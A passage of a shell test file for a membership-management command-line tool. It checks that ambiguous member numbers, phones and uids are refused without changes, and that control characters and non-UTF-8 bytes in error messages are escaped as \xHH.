	mbr-add -q pc.csv
	a=$(mbr-member show --format csv 13700000001 | sed -n '2s/,.*//p')
	b=$(mbr-member show --format csv M7 | sed -n '2s/,.*//p')
	run --separate-stderr mbr-member --yes erase 13900000001
	[ "$status" -eq 3 ]
	[[ "$stderr" == *"'13900000001' is ambiguous: it is the member number of member $a and the phone of member $b; name the member by its uid"* ]]
	[ "$(q "SELECT COUNT(*) FROM members WHERE status = 'erased'")" = 0 ]
	# a member whose member number is its own phone is no one else's
	printf 'member_no,name,phone\n13600000001,Same,13600000001\n' >same.csv
	mbr-add -q same.csv
	[ "$(mbr-member show --format csv 13600000001 | sed -n '2p' | cut -d, -f2)" = 13600000001 ]
}

@test "set: a member number that is another member's uid is refused (exit 3); the member's own uid is allowed" {
	before=$(dump)
	run --separate-stderr mbr-member set M0002 member_no=S01-4
	[ "$status" -eq 3 ]
	[ "$output" = "" ]
	[ "$stderr" = "mbr-member: member_no: 'S01-4' is the uid of another member" ]
	[ "$(dump)" = "$before" ]
	# S01-4 is still M0003's alone
	[ "$(mbr-member show --format csv S01-4 | sed -n '2p' | cut -d, -f2)" = M0003 ]
	# numbers merely like a uid are no one's: another store's unknown
	# sequence, a leading zero, an unknown store
	for no in S01-04 S02-4 S09-4 2023-4; do
		mbr-member -q set S01-3 member_no=$no
		[ "$(mbr-member show --format csv S01-4 | sed -n '2p' | cut -d, -f2)" = M0003 ]
	done
	run --separate-stderr mbr-member set S01-3 member_no=S01-3
	[ "$status" -eq 0 ]
	[ "$(mbr-member show --format csv S01-3 | sed -n '2p' | cut -d, -f1,2)" = "S01-3,S01-3" ]
	mbr-db -q check
}

@test "a member number that is another member's uid is ambiguous: refused, nothing changed" {
	# only a uid not given out yet can become a member number: S01-8
	# (S01-7 is the batch's) gets number S01-9, the uid of the member
	# enrolled after it
	printf 'member_no,name,phone\nS01-9,Early,13800000007\nM8,Second,13800000002\n' >uc.csv
	mbr-add -q uc.csv
	u=S01-9
	v=S01-8
	[ "$(mbr-member show --format csv M8 | sed -n '2s/,.*//p')" = "$u" ]
	run --separate-stderr mbr-member --yes erase "$u"
	[ "$status" -eq 3 ]
	[[ "$stderr" == *"'$u' is ambiguous: member $v has it as member number or phone, and it is another member's uid"* ]]
	[ "$(q "SELECT COUNT(*) FROM members WHERE status = 'erased'")" = 0 ]
	# named by another key, each is found
	[ "$(mbr-member show --format csv M8 | sed -n '2s/,.*//p')" = "$u" ]
	[ "$(mbr-member show --format csv 13800000007 | sed -n '2s/,.*//p')" = "$v" ]
	[ "$(mbr-member show --format csv "$v" | sed -n '2s/,.*//p')" = "$v" ]
}

@test "messages show bytes that are not UTF-8, and control characters, as \\xHH" {
	run --separate-stderr mbr-member find "$(printf 'Zo\377\033[31m')"
	[ "$status" -eq 1 ]
	[ "$stderr" = 'mbr-member: no member matches '\''Zo\xff\x1b[31m'\''' ]
	# UTF-8 text is shown as it is
	run --separate-stderr mbr-member find '王小明'
	[ "$stderr" = "mbr-member: no member matches '王小明'" ]
	run --separate-stderr mbr-add --store "$(printf 'S\tX\001')" --name A --phone 13800000099
	[ "$status" -eq 2 ] || [ "$status" -eq 3 ]
	[[ "$stderr" == *'S	X\x01'* ]]
}
